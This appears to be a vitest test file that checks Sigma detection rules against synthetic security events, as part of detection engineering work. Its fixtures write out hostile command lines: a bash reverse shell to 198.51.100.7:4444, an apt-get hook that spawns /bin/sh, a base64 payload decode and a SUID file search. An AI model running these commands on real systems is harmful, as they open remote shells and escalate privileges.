import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DuckDbEventStore } from '../../store/duckdb-store.js';
import { events } from '../../test-support/events.js';
import { base64Offsets, parseSigmaRule } from './rule.js';

const RULES = fileURLToPath(new URL('../../../../../shared/corpora/sigma/rules', import.meta.url));
const proc = (id: string, exe: string, cmd: string) => ({ event: { id, category: 'process' }, process: { executable: exe, command_line: cmd } });

/** Synthetic events: for each rule, ids starting with its tag must match it, ids with `no-` must not. */
const SYNTHETIC = events([
  proc('apt-yes', '/usr/bin/apt-get', 'apt-get update -o APT::Update::Pre-Invoke::=/bin/sh'),
  proc('apt-no-plain', '/usr/bin/apt-get', 'apt-get update'),
  proc('b64-yes', '/usr/bin/base64', 'base64 -d payload.txt'),
  proc('b64-no-encode', '/usr/bin/base64', 'base64 file.txt'),
  { event: { id: 'b64-no-wrong-category', category: 'file' }, process: { executable: '/usr/bin/base64', command_line: 'base64 -d x' } },
  { event: { id: 'rev-yes' }, message: 'sh: bash -i >& /dev/tcp/198.51.100.7/4444 0>&1' },
  { event: { id: 'rev-no-plain' }, message: 'bash -i' },
  { event: { id: 'dav-yes', category: 'web' }, user_agent: { original: 'Microsoft-WebDAV-MiniRedir/10.0.19045' }, http: { request: { method: 'GET' } }, url: { original: '/share/payload.EXE' }, destination: { ip: '198.51.100.20' } },
  { event: { id: 'dav-no-internal', category: 'web' }, user_agent: { original: 'Microsoft-WebDAV-MiniRedir/10.0.19045' }, http: { request: { method: 'GET' } }, url: { original: '/share/payload.exe' }, destination: { ip: '10.1.2.3' } },
  { event: { id: 'dav-no-doc', category: 'web' }, user_agent: { original: 'Microsoft-WebDAV-MiniRedir/10.0.19045' }, http: { request: { method: 'GET' } }, url: { original: '/share/readme.txt' }, destination: { ip: '198.51.100.20' } },
  { event: { id: 'pad-yes-truncate', provider: 'auditd' }, type: 'EXECVE', message: 'truncate -s +5000 /usr/bin/ls' },
  { event: { id: 'pad-yes-dd', provider: 'auditd' }, type: 'EXECVE', message: 'dd if=/dev/zero bs=1 count=5000' },
  { event: { id: 'pad-no-dd-of', provider: 'auditd' }, type: 'EXECVE', message: 'dd if=/dev/zero of=/tmp/disk.img' },
  { event: { id: 'pad-no-syscall', provider: 'auditd' }, type: 'SYSCALL', message: 'truncate -s 0 x' },
  proc('disc-yes-find', '/usr/bin/find', 'find / -perm -4000'),
  proc('disc-yes-file', '/usr/bin/file', `file ${'a/'.repeat(120)}`),
  proc('disc-no-file-short', '/usr/bin/file', 'file a.txt'),
  { event: { id: 'cb-yes', category: 'network' }, Initiated: 'true', destination: { port: 4444, ip: '203.0.113.50' } },
  { event: { id: 'cb-no-private', category: 'network' }, Initiated: 'true', destination: { port: 4444, ip: '192.168.1.10' } },
  { event: { id: 'cb-no-port', category: 'network' }, Initiated: 'true', destination: { port: 443, ip: '203.0.113.50' } },
]);

const CASES: ReadonlyArray<[file: string, tag: string]> = [
  ['linux/process_creation/proc_creation_lnx_apt_shell_execution.yml', 'apt'],
  ['linux/process_creation/proc_creation_lnx_base64_decode.yml', 'b64'],
  ['linux/builtin/lnx_shell_susp_rev_shells.yml', 'rev'],
  ['web/proxy_generic/proxy_webdav_external_execution.yml', 'dav'],
  ['linux/auditd/execve/lnx_auditd_binary_padding.yml', 'pad'],
  ['linux/process_creation/proc_creation_lnx_file_and_directory_discovery.yml', 'disc'],
  ['linux/network_connection/net_connection_lnx_susp_malware_callback_port.yml', 'cb'],
];

describe.runIf(existsSync(RULES))('Sigma rules evaluated on synthetic events', () => {
  let store: DuckDbEventStore;
  beforeAll(async () => {
    store = await DuckDbEventStore.open({ path: ':memory:' });
    await store.append(SYNTHETIC);
  });
  afterAll(async () => {
    await store?.close();
  });

  for (const [file, tag] of CASES) {
    it(`${file} matches exactly its positive events`, async () => {
      const rule = parseSigmaRule(readFileSync(join(RULES, file), 'utf8'), file);
      const r = await store.search({ query: rule.expr, size: 100 });
      const matched = r.events.map((e) => e.id).sort();
      const expected = SYNTHETIC.map((e) => e.id).filter((id) => id.startsWith(`${tag}-yes`)).sort();
      expect(expected.length).toBeGreaterThan(0);
      expect(matched).toEqual(expected);
    });
  }
});

describe('Sigma modifiers', () => {
  it('computes base64offset variants like the Sigma reference', () => {
    // the three shifted encodings of "/bin/sh" as sigma-cli produces them
    expect(base64Offsets('/bin/sh')).toEqual(['L2Jpbi9za', '9iaW4vc2', 'vYmluL3No']);
  });

  it('refuses unsupported modifiers and aggregations with a named feature', () => {
    const rule = (detection: string) => `title: t\nlogsource: {product: linux}\ndetection:\n${detection}`;
    expect(() => parseSigmaRule(rule('  sel: {CommandLine|expand: "%x%"}\n  condition: sel'))).toThrow(/modifier \|expand/);
    expect(() => parseSigmaRule(rule('  sel: {CommandLine: x}\n  condition: sel | count() > 5'))).toThrow(/aggregation/);
    expect(() => parseSigmaRule(rule('  sel: {CommandLine|re: "(?<=a)b"}\n  condition: sel'))).toThrow(/RE2/);
    expect(() => parseSigmaRule(rule('  sel: {CommandLine: x}\n  condition: nope'))).toThrow(/not a selection/);
  });
});
